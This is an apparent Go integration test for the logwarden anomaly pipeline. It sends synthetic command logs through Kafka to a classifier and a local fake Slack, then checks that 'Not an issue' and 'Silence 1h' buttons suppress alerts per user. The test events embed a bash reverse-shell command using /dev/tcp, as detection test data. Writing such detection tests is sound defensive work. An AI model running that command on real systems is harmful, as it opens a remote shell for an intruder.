//go:build integration

package main

import (
	"context"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/logwarden/logwarden/pkg/kafkatest"
	"github.com/logwarden/logwarden/pkg/kafkax"
	"github.com/logwarden/logwarden/pkg/logwardenpb"
	"github.com/logwarden/logwarden/services/slack-notifier/internal/render"
	"github.com/logwarden/logwarden/services/slack-notifier/internal/slacktest"
)

// classifierProc builds the real anomaly-classifier from this repository and runs it as
// a process (as the e2e harness does) until the test ends.
func classifierProc(t *testing.T, env map[string]string) {
	t.Helper()
	dir, err := os.Getwd()
	if err != nil {
		t.Fatal(err)
	}
	for {
		if _, err := os.Stat(filepath.Join(dir, "go.work")); err == nil {
			break
		}
		if filepath.Dir(dir) == dir {
			t.Fatal("go.work not found above the test's directory")
		}
		dir = filepath.Dir(dir)
	}
	work := t.TempDir()
	bin := filepath.Join(work, "anomaly-classifier")
	build := exec.Command("go", "build", "-o", bin, "./cmd/anomaly-classifier")
	build.Dir = filepath.Join(dir, "services", "anomaly-classifier")
	if out, err := build.CombinedOutput(); err != nil {
		t.Fatalf("build anomaly-classifier: %v\n%s", err, out)
	}
	logf, err := os.Create(filepath.Join(work, "anomaly-classifier.log"))
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(bin, "run")
	cmd.Dir = work // no .env there
	cmd.Stdout, cmd.Stderr = logf, logf
	cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + os.Getenv("HOME")}
	for k, v := range env {
		cmd.Env = append(cmd.Env, k+"="+v)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()
	t.Cleanup(func() {
		_ = cmd.Process.Signal(syscall.SIGTERM)
		select {
		case err := <-done:
			var ee *exec.ExitError
			if err != nil && !errors.As(err, &ee) {
				t.Errorf("classifier: %v", err)
			}
		case <-time.After(20 * time.Second):
			_ = cmd.Process.Kill()
			t.Error("classifier did not stop within 20s of SIGTERM")
		}
		logf.Close()
		if t.Failed() {
			b, _ := os.ReadFile(logf.Name())
			t.Logf("classifier log:\n%s", tail(string(b), 4000))
		}
	})
}

func tail(s string, n int) string {
	if len(s) > n {
		return s[len(s)-n:]
	}
	return s
}

func commandEvent(t *testing.T, w *kafkax.Writer, topic, id, user, ip, cmd string, at time.Time) {
	t.Helper()
	raw := fmt.Sprintf("[%s] %s %s executed command '%s'", at.Format("02/Jan/2006 15:04:05"), ip, user, cmd)
	m, err := kafkax.NewProtoMessage(topic, user, id, &logwardenpb.LogEvent{Id: id, Raw: raw, Source: "test"})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	if err := w.Write(ctx, m); err != nil {
		t.Fatal(err)
	}
}

// The whole loop on the real broker: log lines → the real anomaly-classifier (a
// process) → alerts → the notifier → the local Slack with Socket Mode → buttons.
// "Not an issue" pressed on alice's reverse-shell alerts makes the classifier stop
// alerting on alice running a command of that shape, while bob running the same
// command still alerts; "Silence 1h" pressed on one of carol's alerts keeps that
// rule's next alert about carol out of Slack while her other alerts are posted.
func TestNotAnIssueAndSilenceThroughTheClassifier(t *testing.T) {
	cfg := kafkatest.Config(t)
	logs, alerts, verdicts := kafkatest.NewTopic(t, cfg, 2), kafkatest.NewTopic(t, cfg, 2), kafkatest.NewTopic(t, cfg, 2)
	silences, targets, feedback := kafkatest.UniqueName("silences"), kafkatest.UniqueName("actions"), kafkatest.UniqueName("feedback")
	admin := kafkatest.Admin(t, cfg)
	t.Cleanup(func() {
		_ = admin.DeleteTopics(context.Background(), kafkax.DLQTopic(logs), kafkax.DLQTopic(alerts), silences, targets, feedback)
	})
	brokers := strings.Join(cfg.Brokers, ",")
	classifierHTTP := freeAddr(t)
	classifierProc(t, map[string]string{
		"KAFKA_BROKERS": brokers, "INPUT_TOPIC": logs, "ALERTS_TOPIC": alerts, "VERDICTS_TOPIC": verdicts, "FEEDBACK_TOPIC": feedback,
		"GROUP_ID": kafkatest.UniqueName("classifier"), "HTTP_ADDR": classifierHTTP, "TOPIC_PARTITIONS": "2", "LOG_LEVEL": "warn",
		"CONSUMER_SESSION_TIMEOUT": "6s", "CONSUMER_START_OFFSET": "earliest", "REPLAY_EVENTS": "0",
	})
	slack := slacktest.New()
	defer slack.Close()
	const channel = "C0ALERTS"
	slack.SetMembers(channel, "U0OPS")
	group := kafkatest.UniqueName("notifier-e2e")
	startNotifier(t, map[string]string{
		"KAFKA_BROKERS": brokers, "ALERTS_TOPIC": alerts, "GROUP_ID": group, "SILENCES_TOPIC": silences,
		"ACTIONS_TOPIC": targets, "FEEDBACK_TOPIC": feedback,
		"SLACK_BOT_TOKEN": "xoxb-test", "SLACK_APP_TOKEN": "xapp-1-A0LOCAL-test", "SLACK_CHANNEL": channel, "SLACK_API_URL": slack.APIURL(),
		"SLACK_RATE_PER_SECOND": "0", "HTTP_ADDR": "127.0.0.1:0", "GROUP_WAIT": "0s", "GROUP_INTERVAL": "100ms",
		"CONSUMER_COMMIT_INTERVAL": "100ms", "CONSUMER_START_OFFSET": "earliest", "TOPIC_PARTITIONS": "2", "CONSUMER_SESSION_TIMEOUT": "6s",
	})
	ctx, cancel := context.WithTimeout(context.Background(), 4*time.Minute)
	defer cancel()
	if err := slack.WaitConnected(ctx); err != nil {
		t.Fatal(err)
	}
	w, err := kafkax.NewWriter(cfg, kafkax.DefaultWriterConfig(), nil)
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()

	t0 := time.Date(2026, 11, 24, 9, 0, 0, 0, time.UTC)
	later := t0.Add(7 * time.Hour) // past the classifier's alert cooldown and storms
	shell := func(ip string) string { return "bash -i >& /dev/tcp/" + ip + "/4444 0>&1" }
	commandEvent(t, w, logs, "alice-1", "alice", "10.0.0.5", shell("10.0.0.9"), t0)
	commandEvent(t, w, logs, "carol-1", "carol", "10.0.0.7", shell("10.0.0.9"), t0)

	// The parents posted for each entity (one per rule that fired).
	parents := func(entity, evidence string) []slackPost {
		var out []slackPost
		for _, p := range slackPosts(t, slack) {
			d := dump(p.msg)
			if p.method == "chat.postMessage" && p.threadTS == "" && strings.Contains(d, "*Entity*\\n`"+entity+"`") && strings.Contains(d, evidence) {
				out = append(out, p)
			}
		}
		return out
	}
	var alice, carol []slackPost
	waitFor(t, 90*time.Second, "alice's and carol's alerts in Slack", func() bool {
		alice, carol = parents("alice", "10.0.0.9"), parents("carol", "10.0.0.9")
		return len(alice) > 0 && len(alice) == len(carol)
	})
	time.Sleep(time.Second) // every rule's alert is in (they come in one batch)
	alice, carol = parents("alice", "10.0.0.9"), parents("carol", "10.0.0.9")
	rules := len(alice)
	if rules == 0 || len(carol) != rules {
		t.Fatalf("alice %d alerts, carol %d", len(alice), len(carol))
	}
	press := func(p slackPost, action string) {
		t.Helper()
		ref, _ := buttonsOf(p.msg)
		if err := slack.Press(ctx, slacktest.Click{UserID: "U0OPS", UserName: "ops", ChannelID: p.channel, MessageTS: p.ts,
			ActionID: action, BlockID: render.ActionsBlockID(ref), Value: ref}); err != nil {
			t.Fatal(err)
		}
	}
	pressed := time.Now()
	for _, p := range alice {
		press(p, render.ActionNotAnIssue)
	}
	press(carol[0], render.ActionSilence1h)
	waitFor(t, 60*time.Second, "the classifier accepting alice's patterns", func() bool {
		return metric(t, classifierHTTP, "logwarden_feedback_accepted") == float64(rules)
	})
	t.Logf("Not an issue ×%d: in force in the classifier %v after the first click", rules, time.Since(pressed).Round(time.Millisecond))

	commandEvent(t, w, logs, "alice-2", "alice", "10.0.0.5", shell("192.168.7.7"), later)
	commandEvent(t, w, logs, "bob-1", "bob", "10.0.0.6", shell("192.168.7.7"), later)
	commandEvent(t, w, logs, "carol-2", "carol", "10.0.0.7", shell("192.168.7.7"), later)
	kafkatest.ReadN(t, cfg, verdicts, 5, 60*time.Second) // all five events classified, their alerts written
	rctx, rcancel := context.WithTimeout(ctx, 3*time.Second)
	all, err := kafkax.ReadTopicUntil(rctx, cfg, alerts, func(kafkax.Message) bool { return false })
	rcancel()
	if err != nil {
		t.Fatal(err)
	}
	waitFor(t, 60*time.Second, fmt.Sprintf("the notifier through every alert (%d)", len(all)), func() bool {
		return committed(t, admin, group, alerts) == int64(len(all))
	})
	if len(all) != 4*rules {
		t.Fatalf("%d alerts, want %d: per rule, alice's first command, carol's two and bob's, none for alice's second", len(all), 4*rules)
	}
	// Posted about the second round (parents or thread replies), by entity.
	second := map[string]int{}
	for _, p := range slackPosts(t, slack) {
		d := dump(p.msg)
		if p.method != "chat.postMessage" || !strings.Contains(d, "192.168.7.7") {
			continue
		}
		for _, e := range []string{"alice", "bob", "carol"} {
			if strings.Contains(d, "*Entity*\\n`"+e+"`") {
				second[e]++
			}
		}
	}
	if second["alice"] != 0 || second["bob"] != rules || second["carol"] != rules-1 {
		t.Fatalf("second round in Slack %v: want bob %d, carol %d (one rule silenced), alice none (not an issue)", second, rules, rules-1)
	}
}
